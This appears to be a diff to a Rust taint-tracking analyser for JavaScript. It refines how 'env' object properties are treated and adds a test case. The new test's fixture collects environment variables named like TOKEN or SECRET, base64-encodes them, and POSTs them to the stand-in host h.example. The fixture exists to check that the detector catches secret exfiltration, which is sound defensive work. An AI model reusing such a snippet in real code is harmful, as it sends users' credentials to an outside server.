@@ -1034,7 +1034,11 @@ impl Tracker<'_, '_> {
                 for p in &o.properties {
                     match p {
                         ObjectPropertyKind::ObjectProperty(p) => {
-                            if p.key.static_name().is_some_and(|k| auth_key(&k)) {
+                            // `{ env }`, `{ env: grabbed }`: a variable the code filled
+                            // itself, not settings handed to a client (`{ env: process.env }`).
+                            let own_copy = matches!(&p.value, Expression::Identifier(_))
+                                && p.key.static_name().is_some_and(|k| k == "env");
+                            if p.key.static_name().is_some_and(|k| auth_key(&k)) && !own_copy {
                                 continue;
                             }
                             t = best(t, self.taint_of(&p.value, depth + 1));
@@ -1751,6 +1755,25 @@ fetch("https://c.example/u", { method: "POST", body: JSON.stringify(grab) });"#;
         let one = r#"const o = {}; for (const k of ["HOME", "LANG"]) o[k] = process.env[k];
 fetch("https://c.example/u", { method: "POST", body: JSON.stringify(o) });"#;
         assert!(flows(one).is_empty());
+    }
+
+    #[test]
+    fn secret_named_keys_filtered_then_copied_reach_a_request() {
+        let src = r#"const https = require("https");
+const keys = Object.keys(process.env).filter((k) => /TOKEN|SECRET/.test(k));
+if (keys.length) {
+  const env = {};
+  for (const k of keys) env[k] = process.env[k];
+  const body = Buffer.from(JSON.stringify({ cwd: process.cwd(), env })).toString("base64");
+  const r = https.request({ host: "h.example", method: "POST" });
+  r.end(body);
+}"#;
+        let f = flows(src);
+        assert_eq!(f.first().map(|f| f.0), Some(Source::Secrets), "{f:?}");
+        // Settings handed to a client under `env` are not the environment sent.
+        let settings = r#"fetch("https://h.example", { method: "POST", body: JSON.stringify({ env: process.env }) });
+const env = "production"; fetch("https://h.example", { method: "POST", body: JSON.stringify({ env }) });"#;
+        assert!(flows(settings).is_empty(), "{:?}", flows(settings));
     }
 
     #[test]
